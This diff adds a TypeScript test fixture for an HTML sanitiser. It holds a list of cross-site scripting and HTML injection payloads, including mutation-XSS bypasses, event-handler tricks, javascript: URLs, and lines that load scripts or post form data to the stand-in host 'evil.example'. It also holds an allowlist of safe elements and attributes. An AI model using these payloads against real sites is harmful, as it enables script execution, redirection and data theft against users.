@@ -1,0 +1,67 @@
+/**
+ * Texts that try to run something (`hack()` counts), to load something from elsewhere, to cover or to leave the page, or
+ * to be read as other than they were written. Short enough for a comment.
+ */
+export const hostileTexts: readonly string[] = [
+  '<script>hack()</script>',
+  '<script src="https://evil.example/a.js"></script>',
+  '<scr<script>ipt>hack()</scr</script>ipt>',
+  '<SCRIPT/x>hack()</SCRIPT >',
+  '<img src=x onerror=hack()>',
+  '<img/src="x"/onerror="hack()">',
+  '<img src="https://evil.example/p.png" onload=hack()>',
+  '<img srcset="https://evil.example/s.png 2x" alt=x>',
+  '<image href="https://evil.example/i.png" onerror=hack()>',
+  '<svg onload=hack()>',
+  '<svg><script>hack()</script></svg>',
+  '<svg><animate onbegin=hack() attributeName=x dur=1s>',
+  '<svg><use href="https://evil.example/u.svg#x"/></svg>',
+  '<svg><a xlink:href="javascript:hack()"><text y=20>点我</text></a></svg>',
+  '<svg><style><img src=x onerror=hack()></style></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=hack()>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=hack()></annotation-xml></math>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hack()>',
+  '<noscript><p title="</noscript><img src=x onerror=hack()>">',
+  '<template><img src=x onerror=hack()></template>',
+  '<iframe src="javascript:hack()"></iframe>',
+  '<iframe srcdoc="<script>parent.hack()</script>"></iframe>',
+  '<iframe src="https://evil.example/f"></iframe>',
+  '<object data="data:text/html,<script>parent.hack()</script>"></object>',
+  '<embed src="https://evil.example/e.swf">',
+  '<video src=x onerror=hack()></video>',
+  '<video poster="https://evil.example/v.png"></video>',
+  '<audio src="https://evil.example/a.mp3" autoplay onloadstart=hack()></audio>',
+  '<details open ontoggle=hack()><summary>x</summary></details>',
+  '<input autofocus onfocus=hack()>',
+  '<select autofocus onfocus=hack()><option>x</select>',
+  '<body onload=hack()><p>正文</p>',
+  '<div style="position:fixed;inset:0;z-index:99999;background:red">盖住</div>',
+  '<div style="background:url(https://evil.example/b.png)">背景</div>',
+  '<p style="background-image:url(\'https://evil.example/c.png\');color:red">红字</p>',
+  '<style>@import "https://evil.example/s.css";body{display:none}</style><p>样式</p>',
+  '<link rel=stylesheet href="https://evil.example/l.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/m">',
+  '<base href="https://evil.example/"><a href="x">相对</a>',
+  '<a href="javascript:hack()">点我</a>',
+  '<a href="JaVa&#x09;script&colon;hack()">点我</a>',
+  '<a href="data:text/html,<script>opener.hack()</script>" target=_blank>点我</a>',
+  '<a href="vbscript:hack()">点我</a>',
+  '<a href="//evil.example/x" ping="https://evil.example/ping">离开</a>',
+  '<form action="https://evil.example/f"><input name=p><button>提交</button></form>',
+  '<button formaction="javascript:hack()">按我</button>',
+  '<p id="root" name="body" class="ant-modal-mask">占名</p>',
+  '<p onclick=hack() onmouseover=hack() onpointerenter=hack()>移过来</p>',
+  '<xmp><img src=x onerror=hack()></xmp><plaintext><img src=x onerror=hack()>',
+  '"><img src=x onerror=hack()><!--" --!><img src=x onerror=hack()>',
+]
+
+/** What may be left of them where HTML is shown: elements, and attributes. */
+export const harmless = {
+  elements: new Set(
+    [
+      'H1 H2 H3 H4 H5 H6 P DIV SPAN BR HR BLOCKQUOTE PRE CODE B STRONG I EM U S DEL SUB SUP UL OL LI A IMG',
+      'TABLE CAPTION THEAD TBODY TFOOT TR TH TD',
+    ].flatMap((names) => names.split(' ')),
+  ),
+  attributes: new Set('style href title src alt width height colspan rowspan start target rel'.split(' ')),
+} as const
